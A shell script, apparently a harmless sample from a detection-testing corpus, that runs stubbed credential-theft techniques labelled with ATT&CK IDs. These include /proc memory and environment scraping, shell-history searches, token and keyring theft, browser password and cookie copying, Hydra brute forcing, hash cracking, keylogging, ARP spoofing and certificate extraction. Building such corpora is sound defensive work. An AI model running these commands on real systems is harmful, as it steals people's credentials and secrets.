#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): credential access beyond credential files.
# All files are fakes made when the image was built; the tools are busybox stubs (they print
# "applet not found" and exit 127); connections go to 127.0.0.1 only and are refused.
mkdir -p /tmp/loot
# T1003.007 Proc Filesystem: maps then mem of its own child, a dd of another process's memory,
# environments and command lines searched for secrets.
/usr/local/bin/memdump
/bin/sleep 5 &
VICTIM=$!
/bin/dd if=/proc/$VICTIM/mem of=/dev/null bs=4096 count=1 2>/dev/null
/bin/grep -a -i pass /proc/[0-9]*/environ > /dev/null 2>&1
/bin/strings /proc/$VICTIM/cmdline > /dev/null 2>&1
# T1552.003 Shell History
/bin/cat /root/.bash_history > /dev/null
/bin/grep -i -E 'pass|token' /home/alice/.zsh_history /root/.mysql_history > /dev/null
/bin/tail -n 50 /home/alice/.python_history > /dev/null
# T1552.007 Container API (refused: nothing listens)
/bin/wget -q -O- http://127.0.0.1:2375/containers/json 2>/dev/null
/bin/wget -q -O- http://127.0.0.1:10255/pods 2>/dev/null
/usr/bin/curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json 2>/dev/null
# T1528 Steal Application Access Token
/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null
/bin/cat /root/.azure/msal_token_cache.json > /dev/null
/bin/cp /root/.config/gcloud/access_tokens.db /tmp/loot/
# T1555 keyring, T1555.005 password managers
/bin/cp /root/.local/share/keyrings/login.keyring /tmp/loot/
/usr/bin/secret-tool search --all service mail 2>/dev/null
/bin/cp /root/vault.kdbx /tmp/loot/
/bin/cat /root/.password-store/email/work.gpg > /dev/null
/usr/bin/pass show email/work 2>/dev/null
/usr/bin/keepassxc-cli export /root/vault.kdbx 2>/dev/null
# T1555.003 browser passwords, T1539 session cookies
/bin/cp "/root/.config/google-chrome/Default/Login Data" /tmp/loot/chrome-login-data
/bin/cp /root/.mozilla/firefox/c0rpus.default-release/logins.json /root/.mozilla/firefox/c0rpus.default-release/key4.db /tmp/loot/
/bin/cp /root/.config/google-chrome/Default/Cookies /tmp/loot/chrome-cookies
/bin/cp /root/.mozilla/firefox/c0rpus.default-release/cookies.sqlite /tmp/loot/
# T1110.001 guessing, T1110.003 spraying, T1110.004 stuffing, T1110.002 cracking
/usr/bin/hydra -l root -P /opt/lists/pw.txt -t 4 ssh://127.0.0.1 2>/dev/null
/usr/bin/hydra -L /opt/lists/users.txt -p 'Winter2024!' ssh://127.0.0.1 2>/dev/null
/usr/bin/hydra -C /opt/lists/combos.txt ftp://127.0.0.1 2>/dev/null
/usr/sbin/unshadow /etc/passwd /etc/shadow > /tmp/loot/hashes 2>/dev/null
/usr/sbin/john --wordlist=/opt/lists/pw.txt /tmp/loot/hashes 2>/dev/null
/usr/sbin/hashcat -m 1800 -a 0 /tmp/loot/hashes /opt/lists/pw.txt 2>/dev/null
# T1056.001 Keylogging (no input device exists in the sandbox)
/bin/cat /dev/input/event0 > /dev/null 2>&1
/usr/bin/logkeys --start --output /tmp/.k.log 2>/dev/null
# T1557.002 ARP Cache Poisoning (stub; documentation addresses)
/usr/sbin/arpspoof -i eth0 -t 198.51.100.9 198.51.100.1 2>/dev/null
# T1558.005 Ccache Files
/bin/cp /tmp/krb5cc_1000 /tmp/loot/
/usr/bin/klist -c /tmp/krb5cc_1000 2>/dev/null
# T1649 Steal or Forge Authentication Certificates
/usr/bin/openssl pkcs12 -in /root/client.pfx -nodes -passin pass: -out /tmp/loot/client.pem 2>/dev/null
/usr/local/bin/certipy find -u svc@corp.example.test -p x -dc-ip 198.51.100.9 2>/dev/null
kill $VICTIM 2>/dev/null
/bin/rm -rf /tmp/loot
echo "[corpus] credential theft done"
exit 0
